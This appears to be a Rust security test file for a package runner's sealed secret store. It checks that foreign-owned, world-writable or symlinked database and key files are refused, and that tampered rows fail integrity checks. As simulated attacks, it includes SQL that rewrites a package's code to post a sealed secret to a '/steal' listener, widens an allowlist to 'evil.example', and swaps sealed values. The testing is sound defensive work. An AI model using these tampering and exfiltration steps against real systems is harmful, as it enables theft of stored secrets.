//! The store trusts no file another user could have written: a database
//! or key file of another uid, or writable by others, a symlink in their
//! place, a row changed outside cordon and a sealed value moved to another
//! row are all refused, as root and as uid 65534, with uid 65534 (or, for
//! a uid 65534 operator, uid 65533) as the attacker.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use super::common::text;
use super::operator::{dir_of, feed, package_dir, Operator, Who};
use super::serve;

fn attacker_uid(who: Who) -> u32 {
    match who {
        Who::Root => 65534,
        Who::Nobody => 65533,
    }
}

/// `sqlite3 DB SQL` as `uid`: what the attacker does to a file it can write.
fn sqlite_as(uid: u32, db: &Path, sql: &str) {
    use std::os::unix::process::CommandExt;
    let out = Command::new("/usr/bin/sqlite3")
        .arg(db)
        .arg(sql)
        .uid(uid)
        .gid(uid)
        .output()
        .expect("sqlite3 runs (apt-get install sqlite3)");
    assert!(out.status.success(), "sqlite3: {}", text(&out.stderr));
}

fn refused(out: &std::process::Output, needle: &str, what: &str) {
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{what}: {err}");
    assert!(err.contains(needle), "{what}: {needle:?} not in {err}");
    assert!(!err.contains("panicked"), "{what}: {err}");
}

fn files_of_others_are_refused(who: Who) {
    let dir = tempfile::tempdir().unwrap();
    let op = Operator::new(dir.path(), who);
    let attacker = attacker_uid(who);
    let pkg = package_dir(
        &op.dir,
        "p",
        "id = \"p\"\npermissions = [\"secrets.read\"]\n",
        "def main():\n    return 1\n",
    );
    let pkg = pkg.to_str().unwrap();
    // The operator's key exists (its first store made it).
    assert_eq!(op.star(&["list"], None).status.code(), Some(0));
    // The attacker's empty file, world-writable where the operator looks:
    // a store cordon would fill and the attacker could rewrite at will.
    // Every command refuses it before reading or writing anything.
    let shared = op.dir.join("shared");
    dir_of(&shared, 0o755, attacker);
    let db = shared.join("star.db");
    std::fs::write(&db, b"").unwrap();
    std::os::unix::fs::chown(&db, Some(attacker), Some(attacker)).unwrap();
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o666)).unwrap();
    let before = std::fs::read(&db).unwrap();
    let key = op.key();
    let with_db = |args: &[&str], db: &Path, stdin: Option<&str>| {
        let mut c = op.command();
        c.arg("star")
            .args(args)
            .arg("--db")
            .arg(db)
            .arg("--key-file")
            .arg(&key);
        feed(&mut c, stdin)
    };
    for (args, stdin) in [
        (vec!["install", pkg], None),
        (vec!["grant", "p", "secrets.read"], None),
        (vec!["secret", "set", "p", "tok"], Some("s3cret")),
        (vec!["list"], None),
    ] {
        let out = with_db(&args, &db, stdin);
        refused(&out, "star.db", &format!("{who:?} {args:?}"));
        let err = text(&out.stderr);
        assert!(
            err.contains(&format!("uid {attacker}")) || err.contains("writable"),
            "{err}"
        );
    }
    assert_eq!(
        std::fs::read(&db).unwrap(),
        before,
        "{who:?}: the attacker's file was changed"
    );
    // Mode alone: the operator's own file, but writable by others.
    let own = op.home.join("own.db");
    assert_eq!(
        with_db(&["install", pkg], &own, None).status.code(),
        Some(0)
    );
    std::fs::set_permissions(&own, std::fs::Permissions::from_mode(0o646)).unwrap();
    refused(
        &with_db(&["list"], &own, None),
        "writable",
        &format!("{who:?} 0646"),
    );
    std::fs::set_permissions(&own, std::fs::Permissions::from_mode(0o600)).unwrap();
    // A directory others may write: they could swap the file or its journal.
    let open_dir = op.dir.join("open");
    dir_of(&open_dir, 0o777, 0);
    refused(
        &with_db(&["list"], &open_dir.join("star.db"), None),
        "writable",
        &format!("{who:?} 0777 dir"),
    );
    // A dangling symlink is not followed, and its target is not created.
    let link = op.home.join("link.db");
    let target = op.home.join("target.db");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    refused(
        &with_db(&["list"], &link, None),
        "symlink",
        &format!("{who:?} dangling link"),
    );
    assert!(!target.exists(), "{who:?}: the link's target was created");
    // A symlink to the operator's own good database is refused too.
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink(&own, &link).unwrap();
    refused(
        &with_db(&["list"], &link, None),
        "symlink",
        &format!("{who:?} link"),
    );
    // The key file: another uid's is refused, and a symlink as well.
    let other_key = shared.join("store.key");
    std::fs::write(&other_key, format!("{}\n", "ab".repeat(32))).unwrap();
    std::fs::set_permissions(&other_key, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::os::unix::fs::chown(&other_key, Some(attacker), Some(attacker)).unwrap();
    let mut c = op.command();
    c.args(["star", "list", "--db"])
        .arg(op.home.join("fresh.db"))
        .arg("--key-file")
        .arg(&other_key);
    refused(
        &feed(&mut c, None),
        "store.key",
        &format!("{who:?} key of another uid"),
    );
    let key_link = op.home.join("key.link");
    std::os::unix::fs::symlink(&key, &key_link).unwrap();
    let mut c = op.command();
    c.args(["star", "list", "--db"])
        .arg(&own)
        .arg("--key-file")
        .arg(&key_link);
    refused(
        &feed(&mut c, None),
        "symlink",
        &format!("{who:?} key symlink"),
    );
}

#[test]
fn files_of_others_are_refused_as_root() {
    files_of_others_are_refused(Who::Root);
}

#[test]
fn files_of_others_are_refused_as_nobody() {
    files_of_others_are_refused(Who::Nobody);
}

/// The attack the review ran: the database was the attacker's to write
/// for a while (its file, mode 0666); it rewrote a package's code and
/// allowlist to send the package's sealed secret to its own listener. The
/// file is the operator's again (chowned back), but the rows it changed
/// carry no valid MAC: `star run` refuses, and the listener hears nothing.
fn rows_changed_outside_cordon_are_refused(who: Who) {
    let dir = tempfile::tempdir().unwrap();
    let op = Operator::new(dir.path(), who);
    let attacker = attacker_uid(who);
    let owner = match who {
        Who::Root => 0,
        Who::Nobody => 65534,
    };
    let (port, heard) = serve("{}");
    let pkg = package_dir(
        &op.dir,
        "p",
        "id = \"p\"\npermissions = [\"secrets.read\", \"api.http\"]\nnetwork_access = [\"https://api.example.com\"]\n",
        "def main():\n    return len(secrets.get('tok'))\n",
    );
    let ok = |out: std::process::Output| {
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", text(&out.stderr));
        out
    };
    ok(op.star(&["install", pkg.to_str().unwrap()], None));
    ok(op.star(&["grant", "p", "secrets.read", "api.http"], None));
    ok(op.star(&["secret", "set", "p", "tok"], Some("the-operators-secret")));
    ok(op.star(&["secret", "set", "p", "other"], Some("another-secret")));
    assert_eq!(
        text(&ok(op.star(&["run", "p", "--entry", "main"], None)).stdout).trim(),
        "20"
    );

    let db = op.db();
    let as_attacker = |sql: &str| {
        std::os::unix::fs::chown(&db, Some(attacker), Some(attacker)).unwrap();
        std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o666)).unwrap();
        let home_mode = std::fs::metadata(&op.home).unwrap().permissions().mode();
        std::fs::set_permissions(&op.home, std::fs::Permissions::from_mode(0o777)).unwrap();
        sqlite_as(attacker, &db, sql);
        std::fs::set_permissions(&op.home, std::fs::Permissions::from_mode(home_mode)).unwrap();
        std::os::unix::fs::chown(&db, Some(owner), Some(owner)).unwrap();
        std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o600)).unwrap();
        for extra in ["-journal", "-wal", "-shm"] {
            let f = std::path::PathBuf::from(format!("{}{extra}", db.display()));
            if f.exists() {
                std::os::unix::fs::chown(&f, Some(owner), Some(owner)).unwrap();
            }
        }
    };
    let evil = format!(
        "def main():\n    return http.post('http://127.0.0.1:{port}/steal', body = secrets.get('tok')).status\n"
    );
    let snapshot = std::fs::read(&db).unwrap();
    // Code and allowlist rewritten in the package row.
    as_attacker(&format!(
        "UPDATE packages SET package = json_set(json_set(package, '$.sources.\"main.star\"', '{}'), \
         '$.manifest.network_access', json_array('http://127.0.0.1:{port}'));",
        evil.replace('\'', "''")
    ));
    let out = op.star(&["run", "p", "--entry", "main"], None);
    refused(
        &out,
        "changed outside cordon",
        &format!("{who:?} package row"),
    );
    assert!(
        heard.try_recv().is_err(),
        "{who:?}: the secret reached the attacker's listener"
    );
    // The store says which row, and `list`/`show` refuse it too.
    refused(
        &op.star(&["show", "p"], None),
        "package \"p\"",
        &format!("{who:?} show"),
    );

    // A grant row changed (its approval widened) is refused as well.
    std::fs::write(&db, &snapshot).unwrap();
    as_attacker(
        "UPDATE grants SET approval = replace(approval, 'api.example.com', 'evil.example');",
    );
    refused(
        &op.star(&["run", "p", "--entry", "main"], None),
        "changed outside cordon",
        &format!("{who:?} grant row"),
    );

    // A sealed secret moved to another row does not open there.
    std::fs::write(&db, &snapshot).unwrap();
    as_attacker("UPDATE secrets SET sealed = (SELECT sealed FROM secrets WHERE name = 'other') WHERE name = 'tok';");
    let out = op.star(&["run", "p", "--entry", "main"], None);
    let err = text(&out.stderr);
    assert_ne!(out.status.code(), Some(0), "{who:?}: {err}");
    assert!(
        err.contains("cannot open the sealed value"),
        "{who:?}: {err}"
    );
    assert!(
        !text(&out.stdout).contains("14"),
        "{who:?}: the moved secret opened"
    );

    // The untouched database still runs.
    std::fs::write(&db, &snapshot).unwrap();
    assert_eq!(
        text(&ok(op.star(&["run", "p", "--entry", "main"], None)).stdout).trim(),
        "20"
    );
}

#[test]
fn rows_changed_outside_cordon_are_refused_as_root() {
    rows_changed_outside_cordon_are_refused(Who::Root);
}

#[test]
fn rows_changed_outside_cordon_are_refused_as_nobody() {
    rows_changed_outside_cordon_are_refused(Who::Nobody);
}
